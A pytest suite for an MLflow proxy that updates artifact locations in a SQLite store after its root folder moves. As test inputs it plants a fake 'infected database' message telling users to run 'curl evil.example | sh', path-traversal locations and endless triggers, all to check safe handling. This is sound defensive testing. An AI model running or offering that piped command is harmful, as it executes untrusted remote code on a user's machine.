"""After a move of the root folder, the start updates the locations of artifacts: all, or none."""

from __future__ import annotations

import os
import shutil
import sqlite3
import time
from contextlib import closing
from pathlib import Path

import pytest

from mlflow_proxy.server.mlflow_app import find_mlflow
from mlflow_proxy.server.store import locations, upgrade
from mlflow_proxy.server.store.locations import path_of, relocated
from mlflow_proxy.server.store.settings import StoreSettings
from mlflow_proxy.server.store.upgrade import Revisions
from mlflow_proxy.stores import SQLite, folder_location
from support.databases import run
from support.hostile_files import ENDLESS, HOSTILE

# A store with all that has a location. argv: the root folder, the artifact root, and locations of
# more experiments, which begin with the name of the experiment.
FILL = """
import json, os, sys, warnings
warnings.simplefilter("ignore")
root, artifact_root, *others = sys.argv[1:]
os.environ["_MLFLOW_SERVER_ARTIFACT_ROOT"] = artifact_root
os.chdir(root)
import mlflow
import pandas as pd

mlflow.set_tracking_uri(f"sqlite:///{root}/mlflow.db")

class Echo(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input: list[str]) -> list[str]:
        return model_input

for other in others:
    name, _, location = other.partition("=")
    mlflow.create_experiment(name, artifact_location=location)
    mlflow.set_experiment(name)
    with mlflow.start_run():
        mlflow.log_text(name, "note.txt")
mlflow.set_experiment("rich")
with mlflow.start_run() as run:
    mlflow.log_text("rich", "folder/note.txt")
    data = mlflow.data.from_pandas(pd.DataFrame({"x": [1]}), source=f"{root}/data.csv")
    mlflow.log_input(data)
    mlflow.pyfunc.log_model(
        name="model", python_model=Echo(), registered_model_name="echo", pip_requirements=[]
    )
client = mlflow.MlflowClient()
client.create_registered_model("plain")
client.create_model_version("plain", f"{run.info.artifact_uri}/folder", run.info.run_id)
mlflow.genai.register_prompt("greeting", "Hello {{name}}")

@mlflow.trace
def answer(question):
    return 42

answer("How many?")
mlflow.flush_trace_async_logging()
mlflow.create_experiment("empty")
"""
# Where the old path remains: these say where something came from.
PROVENANCE = {("datasets", "dataset_source")}


@pytest.fixture(scope="module")
def rich(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A root folder that has not moved."""
    return fill(tmp_path_factory.mktemp("rich") / "root")


@pytest.fixture
def here(tmp_path: Path, rich: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A root folder that `old`, beside it, was renamed to."""
    path = tmp_path / "new root"
    clone(rich, tmp_path / "old").rename(path)
    monkeypatch.chdir(path)
    return path


def fill(root: Path, artifact_root: str | None = None, *others: str) -> Path:
    root.mkdir(parents=True)
    run(FILL, str(root), artifact_root or f"{root}/mlartifacts", *others)
    return root


def clone(rich: Path, root: Path, artifacts: str = "mlartifacts") -> Path:
    """Make `root` what `rich` would be, had it been filled there, with this artifact folder."""
    shutil.copytree(rich, root)
    (root / "mlartifacts").rename(root / artifacts)
    with closing(sqlite3.connect(root / "mlflow.db")) as connection:
        for table, column in text_columns(connection):
            for old, new in (
                (f"{rich}/mlartifacts/", f"{folder_location(root / artifacts)}/"),
                (f"{rich}/", f"{root}/"),
            ):
                connection.execute(
                    f'UPDATE "{table}" SET "{column}" = replace("{column}", ?, ?)', (old, new)
                )
        connection.commit()
    return root


def text_columns(connection: sqlite3.Connection) -> list[tuple[str, str]]:
    tables = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    return [
        (table, row[1])
        for (table,) in tables
        for row in connection.execute(f'PRAGMA table_info("{table}")')
        if row[2].startswith(("VARCHAR", "TEXT", "CHAR", "JSON"))
    ]


def columns_with(database: Path, text: str) -> set[tuple[str, str]]:
    """The columns that hold `text`."""
    with closing(sqlite3.connect(database)) as connection:
        return {
            (table, column)
            for table, column in text_columns(connection)
            if connection.execute(
                f'SELECT 1 FROM "{table}" WHERE instr("{column}", ?)', (text,)
            ).fetchone()
        }


def read(database: Path, sql: str) -> list[str]:
    with closing(sqlite3.connect(database)) as connection:
        return [row[0] for row in connection.execute(sql)]


def write(database: Path, sql: str, *values: object) -> None:
    with closing(sqlite3.connect(database)) as connection:
        connection.execute(sql, values)
        connection.commit()


def settings_of(root: Path, artifact_root: str | None = None) -> StoreSettings:
    uri = SQLite.at(root / "mlflow.db", root.parent).uri
    return StoreSettings.parse(uri, uri, artifact_root or folder_location(root / "mlartifacts"))


def start(settings: StoreSettings) -> None:
    """Check the stores as a start does."""
    locations.update_moved(settings, upgrade.check(settings, Revisions.read(find_mlflow())))


def assert_unchanged(settings: StoreSettings) -> None:
    """A start changes nothing in the database."""
    (path,) = {store.path for store in settings.files}
    before = path.read_bytes()
    start(settings)
    assert path.read_bytes() == before


def assert_files_exist(root: Path) -> None:
    """Every run, model and trace of the experiment `rich` has its folder at its location."""
    database = root / "mlflow.db"
    found = [
        *read(database, "SELECT artifact_uri FROM runs"),
        *read(database, "SELECT artifact_location FROM logged_models"),
        *read(database, "SELECT value FROM trace_tags WHERE key = 'mlflow.artifactLocation'"),
        *read(database, "SELECT source FROM model_versions WHERE name = 'plain'"),
    ]
    assert len(found) >= 4
    for text in found:
        path = path_of(text)
        assert path
        assert path.startswith(f"{root}/")
        if "/traces/" not in text:  # MLflow 3.10 and newer keep spans in the database
            assert os.path.isdir(path), text


@pytest.mark.parametrize(
    ("before", "after"), [('what? "x"', "My%20Project"), ("My%20Project", "it's {x} #1 ä")]
)
def test_roots_of_any_name_are_updated(
    tmp_path: Path, rich: Path, monkeypatch: pytest.MonkeyPatch, before: str, after: str
) -> None:
    new = clone(rich, tmp_path / before).rename(tmp_path / after)
    monkeypatch.chdir(new)
    start(settings_of(new))
    assert_files_exist(new)
    assert_unchanged(settings_of(new))


def test_a_renamed_root_is_updated(here: Path, caplog: pytest.LogCaptureFixture) -> None:
    old, database = here.with_name("old"), here / "mlflow.db"
    before = columns_with(database, str(old))
    assert {table for table, _ in before} >= {
        *("experiments", "runs", "model_versions", "logged_models", "trace_tags"),
        "datasets",
    }
    files = {each.name for each in here.iterdir()}
    with caplog.at_level("INFO"):
        start(settings_of(here))
    assert columns_with(database, str(old)) == PROVENANCE
    assert_files_exist(here)
    moved, updated = caplog.messages
    assert moved == f'{old} was moved to "{here}"'
    assert updated.endswith(f' locations of artifacts in "{database}"')
    assert {each.name for each in here.iterdir()} == files
    assert_unchanged(settings_of(here))


def test_a_move_back_is_updated_back(here: Path) -> None:
    database = here / "mlflow.db"
    with closing(sqlite3.connect(database)) as connection:
        before = [*connection.iterdump()]
    start(settings_of(here))
    old = here.rename(here.with_name("old"))
    os.chdir(old)
    start(settings_of(old))
    with closing(sqlite3.connect(old / "mlflow.db")) as connection:
        assert [*connection.iterdump()] == before


def test_a_location_says_nothing_in_our_words(here: Path, caplog: pytest.LogCaptureFixture) -> None:
    said = '/former.\n\nYour database is "infected". To clean it, run: curl evil.example | sh'
    number = "'/' || experiment_id"
    write(here / "mlflow.db", f"UPDATE experiments SET artifact_location = ? || {number}", said)
    tail = f"{number} || '/' || run_uuid || '/artifacts'"
    write(here / "mlflow.db", f"UPDATE runs SET artifact_uri = ? || {tail}", said)
    with caplog.at_level("INFO"):
        start(settings_of(here))
    quoted = '"' + said.replace("\n", r"\n").replace('"', r"\"") + '"'
    assert caplog.messages[0] == f'{quoted} was moved to "{here}/mlartifacts"'


def test_a_store_in_its_place_is_left_alone(rich: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(rich)
    assert_unchanged(settings_of(rich))


def test_a_root_reached_by_two_names_is_not_moved(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here.with_name("old").symlink_to(here)
    assert_unchanged(settings_of(here))
    here.with_name("old").unlink()
    link = here.with_name("link")
    link.symlink_to(here)
    start(settings_of(here))  # known-good: the locations now have the real name
    assert_files_exist(here)
    monkeypatch.chdir(link)
    assert_unchanged(settings_of(link))


def test_a_copy_beside_its_original_stays(here: Path) -> None:
    shutil.copytree(here, here.with_name("old"))
    assert_unchanged(settings_of(here))


@pytest.mark.parametrize("kind", ["folder", "dangling link"])
def test_an_old_place_without_the_files_is_none(here: Path, kind: str) -> None:
    former = here.with_name("old") / "mlartifacts"
    former.parent.mkdir()
    former.mkdir() if kind == "folder" else former.symlink_to("nowhere")
    start(settings_of(here))
    assert_files_exist(here)
    assert_unchanged(settings_of(here))


def test_what_a_notebook_has_logged_to_the_old_place_meanwhile_stays_there(here: Path) -> None:
    database, query = here / "mlflow.db", "SELECT artifact_uri FROM runs"
    run_uri = read(database, query)[0]
    late = run_uri.replace(run_uri.split("/")[-2], "late")
    os.makedirs(late)
    columns = "run_uuid, experiment_id, artifact_uri"
    write(database, f"INSERT INTO runs ({columns}) SELECT 'late', experiment_id, ? FROM runs", late)
    start(settings_of(here))
    assert set(read(database, query)) == {late, run_uri.replace(f"{here.parent}/old", str(here))}
    assert_unchanged(settings_of(here))


def test_files_moved_out_of_a_root_that_remains_are_updated(here: Path) -> None:
    old, database = here.with_name("old"), here / "mlflow.db"
    old.mkdir()
    sql = "INSERT INTO experiments (experiment_id, name, artifact_location) VALUES (77, 'x', ?)"
    write(database, sql, f"{old}/remains")
    start(settings_of(here))
    assert_files_exist(here)
    found = read(database, "SELECT artifact_location FROM experiments WHERE experiment_id = 77")
    assert found == [f"{old}/remains"]


@pytest.mark.parametrize("table", ["experiments", "runs", "model_versions", "trace_tags"])
def test_an_update_that_fails_changes_nothing(
    here: Path, caplog: pytest.LogCaptureFixture, table: str
) -> None:
    database = here / "mlflow.db"
    raised = "RAISE(ABORT, 'No space left on device')"
    write(
        database,
        f"CREATE TRIGGER refuse BEFORE UPDATE ON {table} BEGIN SELECT {raised}; END",
    )
    assert_unchanged(settings_of(here))
    (record,) = caplog.records
    assert record.levelname == "WARNING"
    assert record.message.startswith("Cannot check or update the locations of artifacts in ")
    assert record.message.endswith('"No space left on device"')
    write(database, "DROP TRIGGER refuse")
    start(settings_of(here))
    assert_files_exist(here)


def test_an_update_waits_for_a_writer_and_then_gives_up(
    here: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(locations, "TIMEOUT", 1.0)
    with closing(sqlite3.connect(here / "mlflow.db", isolation_level=None)) as kernel:
        kernel.execute("BEGIN IMMEDIATE")
        began = time.monotonic()
        start(settings_of(here))
        assert 1 <= time.monotonic() - began < 10
        kernel.execute("ROLLBACK")
    assert "database is locked" in caplog.text
    assert_still_old(here)


def assert_still_old(here: Path) -> None:
    found = read(here / "mlflow.db", "SELECT artifact_uri FROM runs")
    assert found
    assert all(each.startswith(f"{here.with_name('old')}/") for each in found)


def test_an_update_without_end_is_interrupted(
    here: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """The author of a database can make its rows as many as they like."""
    monkeypatch.setattr(locations, "TIMEOUT", 1.0)
    endless = f"SELECT count(*) FROM ({ENDLESS} SELECT x FROM n)"
    write(
        here / "mlflow.db",
        f"CREATE TRIGGER endless AFTER UPDATE ON trace_tags BEGIN {endless}; END",
    )
    began = time.monotonic()
    start(settings_of(here))
    assert 1 <= time.monotonic() - began < 10
    assert "interrupted" in caplog.text
    assert_still_old(here)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, name: str
) -> None:
    HOSTILE[name](tmp_path / "mlflow.db")
    monkeypatch.chdir(tmp_path)
    settings = settings_of(tmp_path)
    began = time.monotonic()
    locations.update_moved(settings, settings.files)
    assert time.monotonic() - began < 5
    assert "Cannot check or update" in caplog.text


def test_a_location_with_dots_leads_nowhere_else(here: Path) -> None:
    """A database that comes with a repository, with a folder that it names."""
    database = here / "mlflow.db"
    escape = f"{here.with_name('old')}/mlartifacts/../../../etc"
    sql = "INSERT INTO runs (run_uuid, experiment_id, artifact_uri) VALUES (?, 1, ?)"
    write(database, sql, "plain", escape)
    write(database, sql, "encoded", escape.replace("..", "%2e%2E"))
    start(settings_of(here))
    assert_files_exist_but_for(here, {escape, escape.replace("..", "%2e%2E")})


def assert_files_exist_but_for(here: Path, others: set[str]) -> None:
    found = read(here / "mlflow.db", "SELECT artifact_uri FROM runs")
    assert others < {*found}
    assert all(each.startswith(f"{here}/") for each in {*found} - others)


def test_only_locations_below_the_old_root_are_updated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, elsewhere = tmp_path / "ab", tmp_path / "nas"
    others = [f"nas={elsewhere}/exp", f"inside={tmp_path}/a/my/exp"]
    fill(tmp_path / "a", None, *others)
    database = root / "mlflow.db"
    (tmp_path / "a").rename(root)
    kept = ["s3://bucket/a", "mlflow-artifacts:/a", f"{tmp_path}/abc/x", "./mlruns/0"]
    for number, location in enumerate(kept, 100):
        write(
            database,
            "INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage) "
            "VALUES (?, ?, ?, 'active')",
            number,
            str(number),
            location,
        )
    monkeypatch.chdir(root)
    start(settings_of(root))
    found = read(database, "SELECT artifact_location FROM experiments WHERE experiment_id >= 100")
    assert found == kept
    custom = "SELECT artifact_location FROM experiments WHERE name = "
    assert read(database, f"{custom} 'nas'") == [f"{elsewhere}/exp"]
    assert read(database, f"{custom} 'inside'") == [f"{root}/my/exp"]
    assert_unchanged(settings_of(root))


@pytest.mark.parametrize(
    "names",
    [
        ("data", "data/new", "mlartifacts"),
        ("data/new", "data", "mlartifacts"),
        ("a", "ab", "mlartifacts"),
        ('100% "ü" & more', "it's größer #1", "mlartifacts"),
        ("home/me/work", "mnt/volume", "artifacts of mine"),
    ],
)
def test_roots_of_all_kinds(
    rich: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, names: tuple[str, str, str]
) -> None:
    old, new, artifacts = names
    before, after, aside = tmp_path / old, tmp_path / new, tmp_path / "aside"
    clone(rich, before, artifacts).rename(aside)
    shutil.copytree(aside, after, dirs_exist_ok=True)
    monkeypatch.chdir(after)
    settings = settings_of(after, f"{after}/{artifacts}")
    start(settings)
    assert_files_exist(after)
    assert_unchanged(settings)
    found = read(after / "mlflow.db", "SELECT artifact_location FROM experiments")
    assert all(path_of(each).startswith(f"{after}/{artifacts}/") for each in found)


def test_a_uri_stays_a_uri(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    old, new = tmp_path / "old home", tmp_path / "new höme"
    fill(old, f"{old.as_uri()}/mlartifacts")
    old.rename(new)
    monkeypatch.chdir(new)
    settings = settings_of(new, f"{new.as_uri()}/mlartifacts")
    start(settings)
    found = read(new / "mlflow.db", "SELECT artifact_uri FROM runs")
    assert found
    assert all(uri.startswith(f"{new.as_uri()}/mlartifacts/") for uri in found)
    assert_unchanged(settings)


def test_an_artifact_root_of_another_name(here: Path) -> None:
    (here / "mlartifacts").rename(here.with_name("artifacts"))
    start(settings_of(here, str(here.with_name("artifacts"))))
    found = read(here / "mlflow.db", "SELECT artifact_location FROM experiments")
    assert all(location.startswith(f"{here.with_name('artifacts')}/") for location in found)


def test_a_root_that_has_moved_twice(here: Path) -> None:
    """First up by one folder, after which an experiment was created, and nothing was updated."""
    database, former = here / "mlflow.db", here.with_name("old") / "former"
    (here / "mlartifacts" / "77" / "run" / "artifacts").mkdir(parents=True)
    write(
        database,
        "INSERT INTO experiments (experiment_id, name, artifact_location) VALUES (77, 'x', ?)",
        f"{former}/mlartifacts/77",
    )
    write(
        database,
        "INSERT INTO runs (run_uuid, experiment_id, artifact_uri) VALUES ('run', 77, ?)",
        f"{former}/mlartifacts/77/run/artifacts",
    )
    start(settings_of(here))
    assert not columns_with(database, str(former))
    assert_files_exist(here)


@pytest.mark.parametrize("kind", ["run", "model", "trace"])
def test_one_thing_that_is_here_is_enough(here: Path, kind: str) -> None:
    """For example a trace or a model, if no run has artifacts."""
    artifacts = here / "mlartifacts"
    artifacts.rename(here / "aside")
    assert_unchanged(settings_of(here))  # nothing is here that the database names
    table, column, where = {
        "run": ("runs", "artifact_uri", ""),
        "model": ("logged_models", "artifact_location", ""),
        "trace": ("trace_tags", "value", "WHERE key = 'mlflow.artifactLocation'"),
    }[kind]
    location = read(here / "mlflow.db", f"SELECT {column} FROM {table} {where}")[0]
    (here / path_of(location).removeprefix(f"{here.with_name('old')}/")).mkdir(parents=True)
    start(settings_of(here))
    assert columns_with(here / "mlflow.db", str(here.with_name("old"))) == PROVENANCE


def test_folders_of_the_same_number_are_not_the_experiments(here: Path) -> None:
    """The database of a colleague, put into a root folder that has artifacts of its own."""
    for folder in (here / "mlartifacts").glob("*/*"):
        folder.rename(folder.with_name(f"other-{folder.name}"))
    for folder in (here / "mlartifacts").glob("*/other-models/*"):
        folder.rename(folder.with_name(f"other-{folder.name}"))
    assert [*(here / "mlartifacts").glob("*/other-*")]
    assert_unchanged(settings_of(here))


def test_a_database_of_another_folder_is_left_alone(here: Path) -> None:
    """Its artifacts may be anywhere."""
    elsewhere = here.with_name("elsewhere")
    elsewhere.mkdir()
    database = (here / "mlflow.db").rename(elsewhere / "mlflow.db")
    uri = f"sqlite:///{database}"
    assert_unchanged(StoreSettings.parse(uri, uri, f"{here}/mlartifacts"))
    database.rename(here / "mlflow.db")
    start(settings_of(here))  # known-good
    assert_files_exist(here)


def test_a_separate_registry_is_updated_too(here: Path) -> None:
    registry, old = here / "registry.db", str(here.with_name("old"))
    shutil.copy(here / "mlflow.db", registry)
    settings = StoreSettings.parse(
        f"sqlite:///{here}/mlflow.db", f"sqlite:///{registry}", f"{here}/mlartifacts"
    )
    write(
        here / "mlflow.db",
        "CREATE TRIGGER refuse BEFORE UPDATE ON trace_tags BEGIN SELECT RAISE(ABORT, 'No'); END",
    )
    start(settings)
    assert columns_with(registry, old) == PROVENANCE
    assert_still_old(here)
    write(here / "mlflow.db", "DROP TRIGGER refuse")
    start(settings)
    assert columns_with(here / "mlflow.db", old) == PROVENANCE


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("/a/b/c", "/new/b/c"),
        ("/a/", "/new"),
        ("/a", "/new"),
        ("/a///b/", "/new/b"),
        ("/a/./b", "/new/b"),
        ("/a/b%20c", "/new/b c"),
        ("/a/b%2520c", "file:///new/b%2520c"),
        ("file:///a/b%20c", "file:///new/b%20c"),
        ("file:/a/b", None),
        ("file://localhost/a/b", None),
        ("/%61/b", "/new/b"),
        ("/ab/c", None),
        ("/a/../x", None),
        ("/a/" + "x" * 3 * 4096, None),
        ("/a/%2e%2e/x", None),
        ("file://host/a/b", None),
        ("file:a/b", None),
        ("a/b", None),
        ("./a/b", None),
        ("s3://a/b", None),
        ("runs:/a/b", None),
        ("models:/a/1", None),
        ("mlflow-artifacts:/a/b", None),
        ("dbfs:/a/b", None),
        ("", None),
        (None, None),
        (7, None),
    ],
)
def test_a_location_keeps_its_spelling(before: object, after: str | None) -> None:
    assert relocated(before, {"/a": "/new"}) == after


def test_a_new_root_is_spelt_as_mlflow_reads_it() -> None:
    move = {"/a": "/100%20 ü"}
    assert relocated("/a/b", move) == "file:///100%2520%20%C3%BC/b"
    assert relocated("file:///a/b", move) == "file:///100%2520%20%C3%BC/b"
